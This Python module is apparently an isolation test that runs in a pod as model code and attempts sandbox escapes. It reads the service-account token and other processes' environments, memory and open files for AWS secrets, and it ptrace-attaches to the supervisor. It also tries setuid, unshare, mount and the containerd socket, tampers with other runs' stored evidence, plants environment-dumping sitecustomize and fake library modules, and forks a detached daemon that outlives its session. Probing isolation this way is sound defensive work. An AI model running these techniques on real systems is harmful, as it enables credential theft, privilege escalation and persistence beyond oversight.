"""Part of a hostile bundle: tries everything that a model's code must not be able to do.

Each attempt returns what it got, or nothing, or raises. It runs in the pod as any model's code
does, so it needs nothing but the standard library and fsspec, and reports through its log.
"""

from __future__ import annotations

import ctypes
import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import fsspec

MARK = "attempt "
"""Prefix of each log line about an attempt."""
WAIT_S = 3.0
TARGETS = (
    "store",
    "other_run",
    "artifact",
    "api_server",
    "metadata",
    "other_pod",
    "modules",
    "writable",
)
SECRET = re.compile(rb"AWS_SECRET_ACCESS_KEY=[^\0]+|AWS_SESSION_TOKEN=[^\0]+")
TOKEN = Path("/var/run/secrets/kubernetes.io/serviceaccount/token")
CLONE_NEWUSER, PTRACE_ATTACH, PTRACE_DETACH = 0x10000000, 16, 17
DAEMON = "fulcrum-left-behind"
PLANTED = "fulcrum-planted"

Attempt = Callable[[], object]


def run(targets: Mapping[str, str]) -> dict[str, str]:
    """Try everything, print a line each, and return what was got.

    Args:
        targets: `store` (URL), `other_run` and `artifact` (paths in it), `api_server`, `metadata`
            and `other_pod` (`host:port`, or several with commas between them), `modules` (a
            directory) and `writable` (several with colons between them).
    """
    got = {}
    for name, attempt in attempts(targets).items():
        try:
            found, why = attempt(), "nothing was there"
        except Exception as error:  # however it is refused
            found, why = None, f"{type(error).__name__}: {error}"
        if found:
            got[name] = str(found)[:200]
        print(MARK + json.dumps({"name": name, "got": got.get(name), "why": why}), flush=True)
    return got


def attempts(targets: Mapping[str, str]) -> dict[str, Attempt]:
    """Return all attempts by name."""
    store, other = targets["store"].rstrip("/"), targets["other_run"]
    artifact = targets["artifact"]
    first, *_ = writable = [Path(name) for name in targets["writable"].split(":")]
    return {
        # --- the cluster
        "API server by address": lambda: connected(targets["api_server"]),
        "API server by name": lambda: connected("kubernetes.default.svc:443"),
        "API server by environment": lambda: os.environ["KUBERNETES_SERVICE_HOST"],
        "service account token": lambda: TOKEN.read_text(),
        "metadata address": lambda: connected(targets["metadata"]),
        "another pod": lambda: connected(targets["other_pod"]),
        # --- credentials
        "own environment": lambda: SECRET.findall(Path("/proc/self/environ").read_bytes()),
        "others' environments": lambda: list(secrets_in_environments()),
        "others' memory": lambda: list(secrets_in_memory()),
        "tracing the supervisor": lambda: traced(os.getppid()),
        "others' open files": lambda: list(open_files()),
        "secrets in files": lambda: list(secrets_in_files()),
        # --- the store
        "listing all runs": lambda: listed(f"{store}/runs"),
        "another run's evidence": lambda: read(f"{store}/{other}"),
        "another run's evidence, around": lambda: read(f"{store}/runs/../{other}"),
        "writing another run's evidence": lambda: written(f"{store}/{other}", b"{}"),
        "removing another run": lambda: removed(f"{store}/{other}"),
        "another artifact under its name": lambda: written(f"{store}/{artifact}", b"others"),
        "removing an artifact": lambda: removed(f"{store}/{artifact}"),
        # --- the machine
        "becoming root": become_root,
        "a user namespace": new_user_namespace,
        "mounting": mounted,
        "the runtime's socket": lambda: spoken("/run/containerd/containerd.sock"),
        "writing modules": lambda: touched(Path(targets["modules"]) / "planted.py"),
        "writing the root": lambda: touched(Path("/planted")),
        # --- the next stage
        "modules planted before": lambda: ran(first / f"{PLANTED}.ran"),
        "a process left behind before": lambda: alive(first / f"{DAEMON}.beat"),
        "planting modules": lambda: [plant(place, first) for place in writable] and "",
        "leaving a process behind": lambda: leave_behind(first / f"{DAEMON}.beat"),
    }


# --- the cluster


def connected(address: str) -> str:
    """Connect to any of several `host:port`, with commas between them."""
    *others, address = address.split(",")
    host, _, port = address.rpartition(":")
    try:
        with socket.create_connection((host, int(port)), timeout=WAIT_S):
            return f"connected to {address}"
    except OSError:
        if not others:
            raise
        return connected(",".join(others))


# --- credentials


def others() -> Iterator[Path]:
    """Yield the directories in /proc of all processes but this one."""
    for path in Path("/proc").glob("[0-9]*"):
        if path.name != str(os.getpid()):
            yield path


def readable(path: Path) -> bytes:
    """Return what `path` holds, nothing where it may not be read."""
    try:
        return path.read_bytes()
    except OSError:
        return b""


def secrets_in_environments() -> Iterator[str]:
    for process in others():
        if SECRET.search(readable(process / "environ")):
            yield f"environment of {process.name}"


def secrets_in_memory() -> Iterator[str]:
    for process in others():
        try:
            with (process / "mem").open("rb"):
                yield f"memory of {process.name}"
        except OSError:
            continue


def traced(pid: int) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.waitpid(pid, 0)
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    return f"attached to {pid}"


def open_files() -> Iterator[str]:
    for process in others():
        try:
            found = [os.readlink(link) for link in (process / "fd").iterdir()]
        except OSError:
            continue
        if found:
            yield f"{found[0]} of {process.name}"


def secrets_in_files() -> Iterator[str]:
    for pattern in ("/var/run/secrets/**/*", "/run/secrets/**/*", "/root/.aws/*", "/etc/shadow"):
        for path in Path("/").glob(pattern.lstrip("/")):
            if path.is_file() and readable(path):
                yield str(path)


# --- the store


def listed(url: str) -> list[str]:
    files, path = fsspec.core.url_to_fs(url)
    return list(files.ls(path, detail=False))


def read(url: str) -> bytes:
    files, path = fsspec.core.url_to_fs(url)
    with files.open(path, "rb") as file:
        return bytes(file.read())


def written(url: str, content: bytes) -> str:
    files, path = fsspec.core.url_to_fs(url)
    with files.open(path, "wb") as file:
        file.write(content)
    return f"wrote {url}"


def removed(url: str) -> str:
    files, path = fsspec.core.url_to_fs(url)
    files.rm(path, recursive=True)
    return f"removed {url}"


# --- the machine


def become_root() -> str:
    if os.getuid() == 0:
        return "it is root already"
    os.setuid(0)
    return f"uid {os.getuid()}"


def new_user_namespace() -> str:
    """Try it in a new process, since a process with threads may not."""
    code = f"import ctypes, sys; sys.exit(ctypes.CDLL(None).unshare({CLONE_NEWUSER}) != 0)"
    done = subprocess.run([sys.executable, "-c", code], check=False)
    return "" if done.returncode else "unshared"


def mounted() -> str:
    """Mount on a temporary folder, so that a success does no harm."""
    libc = ctypes.CDLL(None, use_errno=True)
    folder = os.fsencode(tempfile.mkdtemp())
    if libc.mount(b"none", folder, b"tmpfs", 0, None) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    libc.umount(folder)
    return "mounted"


def spoken(path: str) -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(path)
    return path


def touched(path: Path) -> str:
    path.write_text("")
    path.unlink()
    return f"wrote {path}"


# --- the next stage


def plant(writable: Path, traces: Path) -> None:
    """Leave modules where the next stage's processes could look for them; that is allowed."""
    trace = traces / f"{PLANTED}.ran"
    code = f"import os, pathlib\npathlib.Path({str(trace)!r}).write_text(str(os.environ))\n"
    site = f"lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"
    # Never outside: without a pod, that would be the home of a real user.
    for place in (writable, writable / ".local" / site):
        for name in ("usercustomize", "sitecustomize", "psutil", "s3fs", "yaml"):
            try:
                place.mkdir(parents=True, exist_ok=True)
                (place / f"{name}.py").write_text(code)
            except OSError:
                continue


def ran(trace: Path) -> str:
    """Report whether the planted code ran with credentials; it may run in this process."""
    return "with credentials" if SECRET.search(readable(trace).replace(b"': '", b"=")) else ""


def leave_behind(beat: Path) -> str:
    """Start a process that leaves its session and outlives us if it can; that is no success yet."""
    code = (
        "import os, pathlib, time\n"
        "os.setsid()\n"
        "if os.fork(): os._exit(0)\n"
        "while True:\n"
        f"    pathlib.Path({str(beat)!r}).write_text(str(time.time()))\n"
        "    time.sleep(0.2)\n"
    )
    subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.DEVNULL).wait()
    return ""


def alive(beat: Path) -> str:
    """Report whether the process that an earlier stage left behind still runs."""
    first = readable(beat)
    time.sleep(1.0)
    return "" if first == readable(beat) else "it still runs"
